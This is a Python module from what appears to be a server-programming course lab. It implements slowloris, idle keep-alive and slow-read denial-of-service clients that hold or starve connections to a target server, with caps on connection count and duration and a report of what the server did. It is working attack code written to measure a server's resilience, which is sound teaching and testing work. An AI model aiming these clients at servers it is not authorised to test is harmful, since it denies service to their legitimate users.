"""Slow and hostile clients (chapter 12): slowloris, idle keep-alive holders, slow readers.

Each attack opens ``count`` connections and plays one bad client on each, for at most ``seconds``:

- :func:`slowloris` trickles a request head, one byte every ``byte_every_ms``, and never ends it
  (endless ``X-Slow`` header lines) unless told to finish after ``finish_after_s``;
- :func:`idle` connects, optionally sends one request and reads its answer, then holds the
  connection open without a word: the keep-alive client that went away without closing;
- :func:`slowread` asks for many large answers at once (pipelined) and reads them at
  ``bytes_per_s``, through a small receive buffer, so that the server's sends block.

They run on an event loop in a background thread: ``with hostile.slowloris(addr, count=500) as
attack:`` returns once every connection was tried, and a notebook then measures legitimate clients
with :func:`iolab.load.run_load` (whose workers are processes of their own) while the attack goes
on. Leaving the block stops it; ``attack.report()`` says what happened, during or after. Every
socket is closed when a connection's client ends, on error and on cancel too, and the thread never
runs past ``seconds``. Each takes a ``namespace``: the attack then connects from inside that network
namespace (chapter 12's netlab client). ``python -m iolab attack`` is :mod:`iolab.commands.attack`.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import statistics
import threading
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field
from typing import Any
from urllib.parse import urlsplit

from iolab.kit import machine, netns
from iolab.kit.loops import LOOPS

# Bounds on what one attack may ask: a typo must not open a million sockets or run for a day.
MAX_COUNT = 20_000
MAX_SECONDS = 3_600.0
CONNECT_TIMEOUT_S = 5.0
# A slow reader's small receive buffer: the TCP window it advertises, so the server's sends fill up.
SLOWREAD_RCVBUF = 4096
SLOWREAD_TICK_S = 0.1

Address = tuple[str, int]


def address(target: str | Address) -> Address:
    """``(host, port)`` from ``http://host:port/...``, ``host:port`` or a tuple."""
    if isinstance(target, tuple):
        return target
    if "://" in target:
        parts = urlsplit(target)
        return parts.hostname or "127.0.0.1", parts.port or 80
    host, _, port = target.rpartition(":")
    return host or "127.0.0.1", int(port)


def check_descriptors(count: int) -> None:
    """Raise this process's soft ``ulimit -n`` for ``count`` sockets, or raise DescriptorLimit saying what to raise."""
    machine.reserve_descriptors(
        count,
        what=f"{count:,} connections",
        fewer=lambda room: f"attack with at most {room:,} connections (the server needs a descriptor per connection "
        f"too: start it from a shell whose `ulimit -n` is above {count})",
    )


@dataclass
class AttackReport:
    """What an attack saw; ``held``: connections not closed by the server (at the end: held until it stopped)."""

    kind: str
    count: int
    seconds: float
    connected: int = 0
    failed: int = 0  # connects refused, reset or timed out
    closed_by_server: int = 0  # connections the server closed (EOF or reset) before the attack ended
    held: int = 0
    max_held: int = 0
    statuses: dict[int, int] = field(default_factory=dict)  # the first answer's status on each connection
    bytes_sent: int = 0
    bytes_received: int = 0
    closed_after_s: list[float] = field(default_factory=list, repr=False)  # from connect to the server's close
    elapsed_s: float = 0.0

    @property
    def answered_408(self) -> int:
        """Connections whose first answer was 408 Request Timeout."""
        return self.statuses.get(408, 0)

    def to_dict(self) -> dict[str, Any]:
        """A flat, JSON-ready summary (the close times as their median)."""
        d = asdict(self)
        times = d.pop("closed_after_s")
        d["statuses"] = {str(k): v for k, v in sorted(self.statuses.items())}
        d["answered_408"] = self.answered_408
        d["closed_after_s_median"] = statistics.median(times) if times else None
        return d


# A client's part: play on a connected socket until the server closes it (return True) or the attack ends.
Play = Callable[["Attack", socket.socket], Awaitable[bool]]


class Attack:
    """``count`` connections each running ``play``, on an event loop in a thread, for at most ``seconds``."""

    def __init__(self, kind: str, target: str | Address, count: int, seconds: float, play: Play,
                 before_connect: Callable[[socket.socket], None] | None = None, namespace: str | None = None) -> None:
        if not 1 <= count <= MAX_COUNT:
            raise ValueError(f"count must be 1..{MAX_COUNT}, not {count}")
        if not 0 < seconds <= MAX_SECONDS:
            raise ValueError(f"seconds must be in (0, {MAX_SECONDS:g}], not {seconds}")
        self.address = address(target)
        self.play, self.before_connect = play, before_connect
        self.namespace = namespace  # chapter 12: the attack's thread connects from this network namespace
        self._report = AttackReport(kind, count, seconds)
        self._statuses: Counter[int] = Counter()
        self._sockets: set[socket.socket] = set()
        self._tried = threading.Event()  # every connect has succeeded or failed
        self._thread: threading.Thread | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._main: asyncio.Task[None] | None = None
        self._started = 0.0
        self._open = 0
        self._failed: BaseException | None = None  # why the attack's thread could not run at all

    # --- from the caller's thread -------------------------------------------------------------------

    def start(self) -> Attack:
        """Start the attack; return once every connection was tried (connected or failed)."""
        check_descriptors(self._report.count)
        self._started = time.monotonic()
        self._thread = threading.Thread(target=self._run, name=f"attack-{self._report.kind}", daemon=True)
        self._thread.start()
        self._tried.wait(min(self._report.seconds, CONNECT_TIMEOUT_S * 2))
        if self._failed is not None:
            self._thread.join()
            raise self._failed
        return self

    def stop(self) -> AttackReport:
        """End the attack now (if it has not ended) and wait for every socket to close; the report."""
        if self._loop is not None and self._main is not None:
            with contextlib.suppress(RuntimeError):  # the loop has closed already
                self._loop.call_soon_threadsafe(self._main.cancel)
        if self._thread is not None:
            self._thread.join()
        if self._failed is not None:
            raise self._failed
        return self.report()

    def run(self) -> AttackReport:
        """Run to the end (``seconds``), blocking; the report."""
        self.start()
        assert self._thread is not None
        self._thread.join()  # to the end: stop() now only collects
        return self.stop()

    def report(self) -> AttackReport:
        """A copy of what was counted so far."""
        r = self._report
        running = self._thread is not None and self._thread.is_alive()
        elapsed = time.monotonic() - self._started if running else r.elapsed_s
        # Held: connected and not closed by the server (a client ended by the attack's end still counts).
        return AttackReport(**{**asdict(r), "statuses": dict(self._statuses), "elapsed_s": elapsed,
                               "held": r.connected - r.closed_by_server, "closed_after_s": list(r.closed_after_s)})

    def __enter__(self) -> Attack:
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()

    # --- on the attack's loop ----------------------------------------------------------------------

    def _run(self) -> None:
        # Entered by this thread only: its sockets belong to the namespace, the caller's stay where they are.
        inside = netns.entered(self.namespace) if self.namespace else contextlib.nullcontext()
        try:
            with inside, asyncio.Runner(loop_factory=LOOPS["uvloop"]) as runner:
                runner.run(self._all())
        except Exception as exc:  # e.g. no such namespace: start() raises it in the caller's thread
            self._failed = exc
        finally:
            for sock in list(self._sockets):  # whatever a cancelled client left: none, unless a bug
                sock.close()
            self._report.elapsed_s = time.monotonic() - self._started
            self._tried.set()

    async def _all(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._main = asyncio.current_task()
        clients = [asyncio.create_task(self._client()) for _ in range(self._report.count)]
        try:
            async with asyncio.timeout(self._report.seconds):
                await asyncio.gather(*clients)
        except (TimeoutError, asyncio.CancelledError):
            pass
        finally:
            for c in clients:
                c.cancel()
            await asyncio.gather(*clients, return_exceptions=True)

    async def _client(self) -> None:
        r = self._report
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sockets.add(sock)
        try:
            sock.setblocking(False)
            if self.before_connect is not None:
                self.before_connect(sock)
            try:
                async with asyncio.timeout(CONNECT_TIMEOUT_S):
                    await asyncio.get_running_loop().sock_connect(sock, self.address)
            except OSError:  # TimeoutError included
                r.failed += 1
                return
            else:
                r.connected += 1
            finally:
                if r.connected + r.failed >= r.count:
                    self._tried.set()
            self._open += 1
            r.max_held = max(r.max_held, self._open)
            connected_at = time.monotonic()
            try:
                closed = await self.play(self, sock)
            except OSError:  # reset, broken pipe: the server (or the network) ended it
                closed = True
            finally:
                self._open -= 1
            if closed:
                r.closed_by_server += 1
                r.closed_after_s.append(time.monotonic() - connected_at)
        finally:
            self._sockets.discard(sock)
            sock.close()

    # --- what the clients share ------------------------------------------------------------------

    def send(self, sock: socket.socket, data: bytes) -> None:
        """Send ``data`` now (small: it fits the kernel's buffer) and count it."""
        self._report.bytes_sent += sock.send(data)

    def received(self, data: bytes, first: bool) -> None:
        """Count ``data``; if it starts the connection's first answer, count its status."""
        self._report.bytes_received += len(data)
        if first and data.startswith(b"HTTP/1.") and len(data) >= 12 and data[9:12].isdigit():
            self._statuses[int(data[9:12])] += 1

    async def sendall(self, sock: socket.socket, data: bytes) -> None:
        """Send all of ``data``, waiting for room in the kernel's buffer, and count it."""
        await asyncio.get_running_loop().sock_sendall(sock, data)
        self._report.bytes_sent += len(data)

    def drain(self, sock: socket.socket, got: bool, budget: int | None = None) -> tuple[bool, bool]:
        """Read what has come (at most ``budget`` bytes), without waiting; (whether the server closed,
        whether anything came so far)."""
        left = 1 << 62 if budget is None else budget
        while left > 0:
            try:
                data = sock.recv(min(left, 65536))
            except BlockingIOError:
                break
            if not data:
                return True, got
            self.received(data, not got)
            got, left = True, left - len(data)
        return False, got

    async def hold(self, sock: socket.socket, got: bool) -> bool:
        """Read (and count) until the server closes the connection: True then."""
        loop = asyncio.get_running_loop()
        while data := await loop.sock_recv(sock, 65536):
            self.received(data, not got)
            got = True
        return True


# --- the clients ----------------------------------------------------------------------------------


def _trickled_head(host: str) -> bytes:
    # A valid start, then header lines for ever: a server that counts head bytes (16 KiB here) would
    # refuse it with 431 only after minutes at a byte every 100 ms.
    return b"GET / HTTP/1.1\r\nHost: %s\r\n" % host.encode() + b"X-Slow: %d\r\n" % 0


def slowloris(target: str | Address, count: int = 500, byte_every_ms: float = 100.0, seconds: float = 10.0,
              finish_after_s: float | None = None, namespace: str | None = None) -> Attack:
    """``count`` clients each trickling a request head, a byte every ``byte_every_ms``; never ended,
    unless ``finish_after_s`` is given: then the head is completed at that time and the answer read."""
    host = address(target)[0]
    every_s = byte_every_ms / 1000

    async def play(attack: Attack, sock: socket.socket) -> bool:
        started, lines, got = time.monotonic(), 0, False
        head = memoryview(_trickled_head(host))
        while True:
            if finish_after_s is not None and time.monotonic() - started >= finish_after_s:
                await attack.sendall(sock, bytes(head) + b"\r\n")  # the current line, then the blank one
                return await attack.hold(sock, got)
            if not head:
                lines += 1
                head = memoryview(b"X-Slow: %d\r\n" % lines)
            attack.send(sock, head[:1])
            head = head[1:]
            closed, got = attack.drain(sock, got)  # a 408, or the server's close
            if closed:
                return True
            await asyncio.sleep(every_s)

    return Attack("slowloris", target, count, seconds, play, namespace=namespace)


def idle(target: str | Address, count: int = 100, seconds: float = 10.0, request: bool = True,
         namespace: str | None = None) -> Attack:
    """``count`` keep-alive clients that send one request (if ``request``), read the answer, then say nothing."""
    host, port = address(target)

    async def play(attack: Attack, sock: socket.socket) -> bool:
        if request:
            attack.send(sock, b"GET / HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host.encode(), port))
        return await attack.hold(sock, False)

    return Attack("idle", target, count, seconds, play, namespace=namespace)


def slowread(target: str | Address, count: int = 10, seconds: float = 10.0, bytes_per_s: float = 4096.0,
             path: str = "/static/sprite.png", pipelined: int = 64, namespace: str | None = None) -> Attack:
    """``count`` clients that each ask for ``path`` ``pipelined`` times at once and read the answers at
    ``bytes_per_s``, through a small receive window: the server's sends block once its buffer is full."""
    host, port = address(target)
    requests = b"GET %s HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (path.encode(), host.encode(), port) * pipelined
    per_tick = max(1, int(bytes_per_s * SLOWREAD_TICK_S))

    def small_window(sock: socket.socket) -> None:
        # Before connect: the window is agreed in the handshake.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SLOWREAD_RCVBUF)

    async def play(attack: Attack, sock: socket.socket) -> bool:
        await attack.sendall(sock, requests)
        got = False
        while True:
            closed, got = attack.drain(sock, got, per_tick)
            if closed:
                return True
            await asyncio.sleep(SLOWREAD_TICK_S)

    return Attack("slowread", target, count, seconds, play, before_connect=small_window, namespace=namespace)


ATTACKS = {"slowloris": slowloris, "idle": idle, "slowread": slowread}
